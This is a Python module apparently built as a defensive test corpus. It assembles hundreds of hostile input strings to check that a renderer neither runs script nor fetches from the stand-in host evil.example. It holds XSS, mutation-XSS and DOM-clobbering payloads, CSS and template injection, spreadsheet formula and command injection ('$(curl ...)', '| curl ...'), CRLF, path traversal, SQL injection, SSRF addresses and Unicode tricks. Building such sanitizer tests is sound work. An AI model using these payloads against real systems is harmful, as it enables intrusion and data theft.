"""Hundreds of texts that try to become markup, script, a request, or another text.

They are made of what is known of such attacks: a way out of the place where a text stands, and
something that runs or fetches there; addresses, style sheets, templates, JSON, encodings and
characters that are not what they seem. What runs counts itself in ``window.ran``, what fetches
asks `HOST`; a browser that shows all of them must do neither.
"""

from __future__ import annotations

import base64
import itertools
import re
from collections.abc import Iterator

HOST = "evil.example"

_RUN = "window.ran=(window.ran||0)+1"
_AT = f"https://{HOST}/"

# --------------------------------------------------------------------------- elements

#: Ways out of where text stands: an element, an attribute, a comment, another language.
WAYS_OUT = (
    "",
    ">",
    '">',
    "'>",
    "`>",
    "\"'`-->]]>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</select>",
    "</iframe>",
    "</xmp>",
    "</plaintext>",
    "</td></tr></table>",
    "</th></tr></thead></table>",
    "</caption></table>",
    "</figcaption></figure>",
    "</summary></details>",
    "</p></small>",
    '"></div></body></html>',
    "</SCRIPT\n>",
    "</style/x>",
)

#: What runs or fetches; RUN and AT stand for the script and the address.
ELEMENTS = (
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script\x0c>RUN</script\x0c>",
    "<script/x>RUN</script/y>",
    "<script src=AT></script>",
    "<script type=module>RUN</script>",
    "<script>RUN",
    "<<script>RUN//<</script>",
    "<img src=x onerror=RUN>",
    "<img/src='x'/onerror='RUN'>",
    "<img\nsrc=x\nonerror=RUN\n>",
    "<img src=AT>",
    "<img srcset='AT 1x'>",
    "<img src=x: onerror\x0b=RUN>",
    "<image src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><script href=AT /></svg>",
    "<svg><image href=AT /></svg>",
    "<svg><use href='AT#a'/></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=AT></iframe></foreignObject></svg>",
    "<svg><style>@import 'AT'</style></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<math href='javascript:RUN'>x</math>",
    "<iframe src=AT></iframe>",
    "<iframe src='javascript:RUN'></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<frameset onload=RUN><frame src=AT></frameset>",
    "<object data=AT></object>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src=AT>",
    "<link rel=stylesheet href=AT>",
    "<link rel=prefetch href=AT>",
    "<link rel=preload as=image href=AT>",
    "<link rel=icon href=AT>",
    "<style>@import 'AT';</style>",
    "<style>*{background:url(AT)}</style>",
    "<style>@font-face{font-family:x;src:url(AT)}*{font-family:x}</style>",
    "<style onload=RUN></style>",
    "<meta http-equiv=refresh content='0;url=AT'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=AT><img src=x>",
    "<body onload=RUN>",
    "<body background=AT>",
    "<table background=AT><tr><td>x</table>",
    "<div style='background:url(AT)'>x</div>",
    "<div style=\"background-image:url('AT')\">x</div>",
    "<div style='list-style:url(AT);display:list-item'>x</div>",
    "<div style='width:99px;height:99px;border-image:url(AT) 1'>x</div>",
    "<video src=AT onerror=RUN></video>",
    "<video poster=AT></video>",
    "<video><source src=AT onerror=RUN></video>",
    "<audio src=AT autoplay onerror=RUN></audio>",
    "<audio><track src=AT default></audio>",
    "<picture><source srcset=AT><img src=x></picture>",
    "<input autofocus onfocus=RUN>",
    "<input type=image src=AT>",
    "<button popovertarget=p>x</button><div popover id=p ontoggle=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<marquee onstart=RUN>x</marquee>",
    "<keygen autofocus onfocus=RUN>",
    "<form action=AT><input name=a></form><script>document.forms[0].submit();RUN</script>",
    "<a href='javascript:RUN' autofocus onfocus=RUN>x</a>",
    "<a href=AT ping=AT>x</a>",
    "<x style='animation:a 1s' onanimationstart=RUN>x",
    "<x contenteditable autofocus onfocus=RUN tabindex=1>x",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<dialog open onclose=RUN><form method=dialog></form></dialog>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<plaintext>",
    "<!--><script>RUN</script>",
    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[><script>RUN</script>]]>",
    "<?xml version='1.0'?><script>RUN</script>",
    "<%<img src=x onerror=RUN>%>",
    "</ x><img src=x onerror=RUN>",
    "<portal src=AT>",
    "<applet code=AT></applet>",
    "<isindex action=javascript:RUN type=image>",
    "<bgsound src=AT>",
    "<layer src=AT></layer>",
    "<xml src=AT></xml>",
)

#: Markup that is changed by being parsed, written and parsed again.
CHANGELINGS = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<p><svg><desc><style><a title='</style><img src onerror=RUN>'></desc>",
    "<table><td><svg><title><style><img title='</style><img src=x onerror=RUN>'>",
    "<select><template><style><!--</style>"
    "<a rel='--></style></template></select><img src onerror=RUN>'>",
    "<noembed><img title='</noembed><img src onerror=RUN>'></noembed>",
    "<math><annotation-xml encoding='text/html'><style><img src onerror=RUN></style>",
    "<a><table><a><img src=x onerror=RUN></a>",
    "<b id=x><p></b><img src=x onerror=RUN>",
    "<nobr><table><nobr><script>RUN</script>",
    "<frameset><noframes><img title='</noframes><img src onerror=RUN>'>",
)

#: Elements that take the names of what scripts of the page ask for.
CLOBBERERS = (
    "<img name=cookie><form id=location href=AT></form>",
    "<form name=body><input id=firstChild></form>",
    "<a id=CONFIG href=AT></a><a id=CONFIG name=url href=AT></a>",
    "<input name=parentNode><output id=querySelector>",
    "<form id=documentElement><img name=dataset></form>",
    "<iframe name=top srcdoc='<a id=ran>'></iframe>",
)

# --------------------------------------------------------------------------- attributes

HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus autofocus", "ontoggle open"),
    *("onanimationstart", "onpointerenter", "onbeforetoggle", "onscroll", "onwheel", "oncopy"),
    *("ONERROR", "onerror\t", "onerror\n", "onerror/", "onerror\x0c", "on\x00error"),
)

QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#34;", "&#x27;", "\u201d", "\uff02", '"\t', '" /')

#: Attributes that fetch, or that change what is there.
ATTRIBUTES = (
    "src=AT",
    "srcset=AT",
    "style=background:url(AT)",
    "style=position:fixed;inset:0;z-index:9",
    "href=AT",
    "action=AT",
    "formaction=javascript:RUN",
    "background=AT",
    "poster=AT",
    "http-equiv=refresh content=0;url=AT",
    "srcdoc=<script>parent.RUN</script>",
    "is=x-x",
    "slot=x",
    "id=__proto__",
    "class=jp-RenderedHTMLCommon",
    "data-commandlinker-command=terminal:open",
)

# --------------------------------------------------------------------------- addresses

SCHEMES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java\x00script:RUN",
    "\x01javascript:RUN",
    "\xa0javascript:RUN",
    "javascript\u200b:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "&#106;avascript:RUN",
    "javascript%3ARUN",
    "javascript://%0aRUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,BASE64",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "data:image/svg+xml;base64,BASE64",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>RUN</script>",
    'data:image/png;base64,"><script>RUN</script>',
    "data:image/png,%22%3E%3Cscript%3ERUN%3C/script%3E",
    "data:,<script>RUN</script>",
    "blob:AT",
    "filesystem:AT",
    "about:blank#<script>RUN</script>",
    "view-source:AT",
    "ws://HOST/",
    "ftp://HOST/a.png",
    "file://HOST/share/a.png",
    "jar:AT!/",
    "mhtml:AT",
    "intent://HOST#Intent;scheme=http;end",
    "cid:AT",
    "AT",
    "ATa.png",
    "//HOST/a.png",
    "///HOST/a.png",
    "/\\HOST/a.png",
    "\\\\HOST\\share\\a.png",
    "\\\\?\\UNC\\HOST\\share\\a.png",
    "http:HOST/a.png",
    "http://user:password@HOST/a.png",
    "https://HOST\\@safe.example/a.png",
    "https://safe.example%2f@HOST/a.png",
    "http://127.0.0.1:9/a.png",
    "http://[::1]:9/a.png",
    "http://169.254.169.254/latest/meta-data/a.png",
    "http://0x7f000001:9/a.png",
    "s3://HOST/a.png",
    "gopher://HOST/a.png",
)

# --------------------------------------------------------------------------- other languages

STYLES = (
    "</style><img src=x onerror=RUN>",
    "}*{background:url(AT)}x{",
    ";background:url(AT);",
    '";background:url(AT);"',
    "');background:url(AT);('",
    "expression(RUN)",
    "width:expression(RUN)",
    "-moz-binding:url(AT)",
    "behavior:url(AT)",
    "@import url(AT);",
    "@import 'AT';",
    "\\75rl(AT)",
    "u\\72 l(AT)",
    "url(javascript:RUN)",
    "image-set('AT' 1x)",
    "/*</style><script>RUN</script>*/",
    "content:url(AT)",
    "cursor:url(AT),auto",
    "x:attr(src url);--a:url(AT)",
    "<!--*{background:url(AT)}-->",
)

SCRIPTS = (
    "</script><script>RUN</script>",
    "<!--<script>",
    "<!--<script></script><script>RUN</script>",
    "]]><script>RUN</script>",
    '";RUN;"',
    "';RUN;'",
    "`;RUN;`",
    "${RUN}",
    "\\';RUN;//",
    '\\";RUN;//',
    "\\u0027;RUN;//",
    "\u2028RUN",
    "\u2029RUN",
    "*/RUN/*",
    '{"__proto__":{"src":"AT"}}',
    '","src":"AT","x":"',
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "-RUN-",
    "constructor.constructor('RUN')()",
    "</script/><svg onload=RUN>",
    "<\\/script><script>RUN</script>",
)

TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('RUN')()}}",
    "{{config.__class__.__init__.__globals__}}",
    "{% raw %}<script>RUN</script>{% endraw %}",
    "{%- include 'AT' -%}",
    "{# <script>RUN</script> #}",
    "{{'<script>RUN</script>'|safe}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 'RUN' ?>",
    "@{7*7}",
    "[[${7*7}]]",
    "*{7*7}",
    "%(x)s %s %d %n",
    "{0} {x.__class__} {x!r:{x}}",
    "$x ${x} $(x) `x`",
    "%{x}",
    "ng-app {{$on.constructor('RUN')()}}",
    "v-html='`<img src=x onerror=RUN>`'",
    "<x-data @click=RUN x-init=RUN>",
    "$$\\href{javascript:RUN}{x}$$",
    "\\(\\require{html}\\href{javascript:RUN}{x}\\)",
    "$\\unicode{<img src=x onerror=RUN>}$",
    "\\begin{equation}\\href{AT}{x}\\end{equation}",
    "[x](javascript:RUN)",
    "![x](AT)",
    "![x][1]\n\n[1]: AT",
    "<javascript:RUN>",
    "# x\n<script>RUN</script>",
    "`<script>RUN</script>`",
    "> <img src=x onerror=RUN>",
    "|a|b|\n|-|-|\n|<script>RUN</script>|",
    '=HYPERLINK("AT")',
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|'x'!A0",
    "+1-1|AT",
    "\x1b]8;;AT\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[31mx",
    "a\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
    "a\r\nBcc: a@HOST\r\n",
    "=?utf-8?q?=3Cscript=3ERUN=3C/script=3E?=",
    '"; filename="x.html',
    "x.html\x00.png",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "CON",
    "a'; DROP TABLE images;--",
    "$(curl AT)",
    "; curl AT #",
    "| curl AT",
)

# --------------------------------------------------------------------------- characters

_LESS = (
    *("&lt;", "&lt", "&LT;", "&#60;", "&#060;", "&#x3c;", "&#x3C", "&#X0000003C;", "&amp;lt;"),
    *("%3C", "%253C", "\\x3c", "\\u003c", "\\74", "\uff1c", "\ufe64", "\u2039", "\u27e8", "\u02c2"),
    *("+ADw-", "\xbc", "\u1438", "\u276e", "<\u0338", "\xc0\xbc", "\x8b", "<\ufe00"),
)

#: Characters that control, reorder or hide, that are none, or that another normal form changes.
CHARACTERS = (
    *(chr(code) for code in (*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x80, 0x85, 0x9B)),
    *("\xad", "\u061c", "\u115f", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f"),
    *("\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2060", "\u2063"),
    *("\u2066", "\u2067", "\u2068", "\u2069", "\u206a", "\u3164", "\ufeff", "\ufff9", "\ufffc"),
    *("\ufffd", "\ufffe", "\uffff", "\ud800", "\udbff", "\udc00", "\udfff", "\udc80"),
    *("\U000e0001", "\U000e0041", "\U000e007f", "\U0001d173", "\U0010ffff", "\U0001fffe"),
)

_ODD = (
    "\u017fcript \u212aeygen <\u017fcript>RUN</\u017fcript>",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "<scr\u0130pt>RUN</scr\u0130pt>",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "<scr\xadipt>RUN</scr\xadipt>",
    "<\ud800script>RUN</script>",
    "\udc3cscript>RUN</script>",
    "<script>\u2028RUN\u2029</script>",
    "gnp.\u202egpj.exe",
    "\u202e\u2066<b>\u2069\u202c<b>",
    "z\u0336\u0322\u0321" + "\u0300" * 150,
    "\ufdfa" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "<" * 3000,
    "&" * 3000,
    '"' * 3000,
    "&#" * 1000,
    "<b>" * 1000,
    "A" * 5000 + "<script>RUN</script>",
    "<!--" * 500,
    "\n" * 300 + "<script>RUN</script>",
    "{" * 1000,
    "&amp;" * 500 + "lt;script&gt;",
    "abcdefghijklmnopqrstuvwx",
    "ABCDEFGHIJKLMNOPQRSTUVWX" * 4,
    "NaN",
    "<NA>",
    "None",
    "<Html, 3 characters>",
    "<class 'str'>",
)

TOKENS = (
    *("<", ">", '"', "'", "&", "`", "=", "/", "<script>", "</script>", "<!--", "-->", "]]>"),
    *("<img src=x onerror=x>", "</td>", "</table>", "</style>", "</title>", '" onload="', "&lt;"),
    *("&#60;", "&quot;", "\u202e", "\x00", "\ud800", "\ufeff", "\u2028", "{{", "{%", "javascript:"),
    *("data:image/png;base64,", "https://evil.example/a.png"),
    *("\r\n", "  ", "...", "a.png", "\x1b["),
)
"""Pieces of such texts, to be put together."""


def _pages() -> Iterator[str]:
    for number, element in enumerate(ELEMENTS):
        # Each element behind three of the ways out, so that each way is met by several.
        for step in range(3):
            yield WAYS_OUT[(number + 11 * step) % len(WAYS_OUT)] + element
    yield from CHANGELINGS
    yield from CLOBBERERS
    for quote, handler in itertools.product(QUOTES[:4], HANDLERS):
        yield f"x{quote} {handler}={quote}RUN{quote} x={quote}"
    for quote in QUOTES[4:]:
        yield f"x{quote} onerror={quote}RUN{quote} x={quote}"
    for number, attribute in enumerate(ATTRIBUTES):
        yield f"x{QUOTES[number % 2]} {attribute} x={QUOTES[number % 2]}"
    yield from SCHEMES
    yield from STYLES
    yield from SCRIPTS
    yield from TEMPLATES
    for less in _LESS:
        yield f"{less}script>RUN{less}/script>"
        yield f"{less}img src=x onerror=RUN>"
    for character in CHARACTERS:
        yield f"a{character}<img{character}src=x{character}onerror=RUN>"
    yield from _ODD


def _filled(text: str) -> str:
    return _WORDS.sub(lambda word: _MEANT[word[0]], text)


_MEANT = {
    "RUN": _RUN,
    "AT": _AT,
    "HOST": HOST,
    "BASE64": base64.b64encode(f"<script>parent.{_RUN}</script>".encode()).decode(),
}
_WORDS = re.compile(rf"(?<![A-Z])(?:{'|'.join(_MEANT)})(?![A-Z])")


HOSTILE = tuple(dict.fromkeys(_filled(text) for text in _pages()))
"""All of them, each once."""
